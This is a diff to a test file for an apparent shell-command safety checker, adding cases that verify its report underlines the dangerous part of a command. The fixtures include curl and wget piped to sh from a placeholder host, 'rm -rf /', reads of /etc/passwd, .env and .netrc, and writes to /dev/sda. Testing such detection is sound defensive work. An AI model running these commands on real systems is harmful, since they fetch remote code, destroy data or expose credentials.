@@ -4,7 +4,7 @@ import { reportFindings } from '../../src/report/entries.ts';
 import { terminal } from '../../src/report/escape.ts';
 import { chop, clipColumns, textWidth, wrap } from '../../src/report/view/columns.ts';
 import { markedLines } from '../../src/report/view/command-lines.ts';
-import { otherWords } from '../../src/report/view/finding.ts';
+import { otherWords, spansOf } from '../../src/report/view/finding.ts';
 import { reasonNotes } from '../../src/report/view/finding-rows.ts';
 import { newFiles } from '../../src/report/view/fix.ts';
 import { geneName } from '../../src/report/view/genes.ts';
@@ -25,6 +25,39 @@ describe('markedLines', () => {
     ['node a\nid', { start: 6, end: 7 }, ['node a<U+000A>id', '      ^^^^^^^^']],
     ['node 漢字 | x', { start: 8, end: 9 }, ['node 漢字 | x', '          ^']],
   ])('%j at %j', (command, span, lines) => expect(markedLines(command, [span])).toEqual(lines));
+
+  it.each([
+    ['npm test && curl -s http://a.b/c | sh', 'curl -s http://a.b/c | sh'],
+    [
+      'curl -so a.sh http://a.b/a.sh; echo 漢字; bash a.sh',
+      'curl -so a.sh http://a.b/a.sh; echo 漢字; bash a.sh',
+    ],
+    ['node a.js | sh -c "$(curl http://a.b)"', 'sh -c "$(curl http://a.b)"'],
+    ["bash -c 'curl -o x.sh http://a.b/x.sh' && sh x.sh", 'sh x.sh'],
+    ["bash -c 'ls; curl http://a.b | sh'", "bash -c 'ls; curl http://a.b | sh'"],
+    ['echo 漢字\t&& rm -rf / && ls', 'rm -rf /'],
+    ['npm test && cat /etc/passwd', 'etc/passwd'],
+    ['FOO=.env npm test | tee .netrc', '.env'],
+    ['node -e "a(); process.env.X"', 'process.env'],
+    ['npm test; env -i rm x', 'rm'],
+    ['ls | sudo ls', 'sudo'],
+    ['echo a > /dev/sda', '/dev/sda'],
+    ['ls && wget http://a.b', 'wget'],
+    [`${'x'.repeat(3000)} && curl http://a.b | sh`, 'curl http://a.b | sh'],
+  ])('marks the danger, and not the operator: %s', (text, marked) => {
+    const operator = finding({
+      rule: 'shell-operator',
+      danger: 'is bad',
+      span: { start: 0, end: 1 },
+    });
+    const [span] = spansOf(text, [operator]);
+    expect(text.slice(span?.start, span?.end)).toBe(marked);
+    const lines = markedLines(text, spansOf(text, [operator]));
+    const at = lines.findIndex((line) => /^ *\^+$/.test(line));
+    expect(lines[at]?.length).toBe(
+      textWidth(lines[at - 1]?.slice(0, lines[at - 1]?.indexOf(marked)) ?? '') + textWidth(marked),
+    );
+  });
 
   it('marks each span, and wraps', () => {
     const spans = [
